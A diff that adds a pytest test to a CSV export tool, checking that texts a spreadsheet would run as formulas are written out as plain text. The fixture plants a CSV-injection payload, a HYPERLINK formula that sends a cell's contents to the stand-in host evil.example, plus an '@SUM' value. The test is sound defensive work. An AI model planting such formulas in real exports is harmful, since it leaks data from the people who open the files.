@@ -100,3 +100,14 @@ def test_the_site_publishes_the_csv_and_the_data_page_links_it(site: Path, capsy
     hrefs = {a["href"] for a in main.find_all("a", href=True)}
     assert any(h.endswith("csv/support.csv") for h in hrefs) and any(h.endswith("csv/billing.csv") for h in hrefs)
     assert broken_links(site, [site / "exports" / "index.html"]) == []
+
+
+def test_a_text_a_spreadsheet_would_run_as_a_formula_is_written_as_text(capsys, hub: Path, tmp_path: Path) -> None:
+    """Map texts come by pull request from anyone and the file is opened by HR staff (CSV injection)."""
+    edit(hub, "maps/support.yml", "text: Tags each ticket with the queue the macro list names.", 'text: "=HYPERLINK(\\"https://evil.example/?\\"&A1, \\"Tags\\")"')
+    edit(hub, "maps/support.yml", "title: Queue log", 'title: "@SUM(1+1)"')
+    rows = parse(export(capsys, hub, tmp_path / "out", "--format", "csv")["csv/support.csv"])
+    behaviour = next(r for r in rows if r["Behaviour id"] == "triage-tags")
+    assert behaviour["Behaviour"] == "'=HYPERLINK(\"https://evil.example/?\"&A1, \"Tags\")"
+    assert behaviour["Evidence"] == "'@SUM(1+1)"
+    assert all(not value.startswith(("=", "+", "-", "@")) for row in rows for value in row.values())
